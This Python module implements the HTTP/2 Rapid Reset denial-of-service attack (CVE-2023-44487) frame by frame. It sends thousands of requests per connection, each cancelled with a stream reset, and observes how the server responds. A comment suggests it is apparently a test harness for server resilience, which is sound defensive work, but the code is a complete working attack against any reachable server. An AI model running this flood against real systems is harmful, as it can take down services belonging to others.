"""HTTP/2 frame by frame (RFC 9113), for what no client would send: streams by the thousand, each reset as it begins."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import AsyncIterator, Callable, Iterable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
ACK = END_STREAM = 1
END_HEADERS: Final = 4
CANCEL: Final = struct.pack(">I", 8)
WINDOW: Final = 65_535
"""Bytes of bodies that a connection may send before the server grants more."""
AT_ONCE: Final = 100
"""Streams in one write: the attack puts as many as it can into each packet."""
PATIENCE: Final = 60.0  # s; a server that hangs must fail a test, not hang it
LONGEST: Final = 127  # bytes of a name or a value: their length is one byte then


@dataclass(slots=True)
class Talk:
    """What became of one connection: streams that were begun, heads of answers, how it ended.

    `goaway` is the error code of a GOAWAY frame; `ended`: the server closed the connection, or reset it; `pongs`: of
    pings that it answered; `window`: bytes of bodies that it takes now.
    """

    streams: int = 0
    answers: int = 0
    goaway: int | None = None
    ended: bool = False
    pongs: int = 0
    window: int = WINDOW
    heard: asyncio.Event = field(default_factory=asyncio.Event)

    @property
    def refused(self) -> bool:
        """Whether the server would have no more of it."""
        return self.ended or self.goaway is not None

    async def until(self, predicate: Callable[[], bool]) -> None:
        """Return when the server has said what makes it true, or refuses."""
        while not (predicate() or self.refused):
            self.heard.clear()
            await self.heard.wait()


def frame(type: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113 §4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([type, flags]) + struct.pack(">I", stream) + payload


def fields(pairs: Iterable[tuple[str, str]]) -> bytes:
    """Header fields, each literal and kept in no table (RFC 7541 §6.2.2). Raises ValueError for one of 128 bytes."""
    encoded = b""
    for pair in pairs:
        texts = [text.encode() for text in pair]
        if max(map(len, texts)) > LONGEST:
            raise ValueError(f"{pair[0]} is longer than {LONGEST} bytes")
        encoded += b"\0" + b"".join(bytes([len(text)]) + text for text in texts)
    return encoded


def post(host: str, path: str, content_type: str, **more: str) -> bytes:
    """The head of a request."""
    plain = {":method": "POST", ":scheme": "http", ":path": path, ":authority": host, "content-type": content_type}
    return fields([*plain.items(), *more.items()])


async def rapid_reset(
    address: tuple[str, int], head: bytes, body: bytes = b"", streams: int = 10_000, *, begun: bool = False
) -> Talk:
    """One connection: so many streams of `head`, whole requests where there is a `body`, and each is reset.

    At once, in the same packet; or, with `begun`, a hundred together when the server has read them. Returns when the
    server has ended the connection, or answered a ping behind them all. CVE-2023-44487. Raises TimeoutError, and
    OSError where nobody listens.
    """
    async with _talking(address) as (writer, talk):
        while talk.streams < streams and not talk.refused:
            numbers = range(2 * talk.streams + 1, 2 * min(streams, talk.streams + AT_ONCE) + 1, 2)
            await talk.until(lambda: talk.window >= AT_ONCE * len(body))
            starts, ends = [_start(one, head, body) for one in numbers], [_end(one) for one in numbers]
            if begun:
                writer.writelines(starts)
                await _read(writer, talk)
                writer.writelines(ends)
            else:
                writer.writelines(part for both in zip(starts, ends, strict=True) for part in both)
            talk.streams += len(numbers)
            talk.window -= len(numbers) * len(body)
            await writer.drain()
        await _read(writer, talk)
    return talk


async def answered(address: tuple[str, int], head: bytes, body: bytes) -> bool:
    """Whether the same request, not reset, gets an answer. Raises as `rapid_reset`."""
    async with _talking(address) as (writer, talk):
        writer.write(_start(1, head, body))
        await talk.until(lambda: talk.answers > 0)
    return talk.answers > 0


@asynccontextmanager
async def _talking(address: tuple[str, int]) -> AsyncIterator[tuple[asyncio.StreamWriter, Talk]]:
    """A connection; that the server ends it ends the block and is no error."""
    reader, writer = await asyncio.open_connection(*address)
    talk = Talk()
    listening = asyncio.create_task(_listen(reader, writer, talk))
    writer.write(PREFACE + frame(SETTINGS, 0, 0))
    try:
        async with asyncio.timeout(PATIENCE):
            yield writer, talk
    except ConnectionError:
        talk.ended = True
    finally:
        listening.cancel()
        writer.transport.abort()
        await asyncio.gather(listening, return_exceptions=True)


async def _read(writer: asyncio.StreamWriter, talk: Talk) -> None:
    """Return when the server has read all that was written, or refuses."""
    wanted = talk.pongs + 1
    writer.write(frame(PING, 0, 0, bytes(8)))
    await writer.drain()
    await talk.until(lambda: talk.pongs >= wanted)


def _start(number: int, head: bytes, body: bytes) -> bytes:
    content = frame(DATA, END_STREAM, number, body) if body else b""
    return frame(HEADERS, END_HEADERS, number, head) + content


def _end(number: int) -> bytes:
    return frame(RST_STREAM, 0, number, CANCEL)


async def _listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, talk: Talk) -> None:
    """Read and answer the server's frames until it ends the connection."""
    try:
        while True:
            start = await reader.readexactly(9)
            payload = await reader.readexactly(int.from_bytes(start[:3], "big"))
            writer.write(_heard(talk, start[3], start[4], int.from_bytes(start[5:], "big"), payload))
            talk.heard.set()
    except (asyncio.IncompleteReadError, ConnectionError):
        talk.ended = True
        talk.heard.set()


def _heard(talk: Talk, type: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Note one frame of the server's; what is to be answered."""
    if type == HEADERS:
        talk.answers += 1
    elif type == GOAWAY:
        talk.goaway = int.from_bytes(payload[4:8], "big")
    elif type == WINDOW_UPDATE and stream == 0:
        talk.window += int.from_bytes(payload, "big")
    elif type == PING and flags & ACK:
        talk.pongs += 1
    elif type in (PING, SETTINGS) and not flags & ACK:
        return frame(type, ACK, 0, payload if type == PING else b"")
    return b""
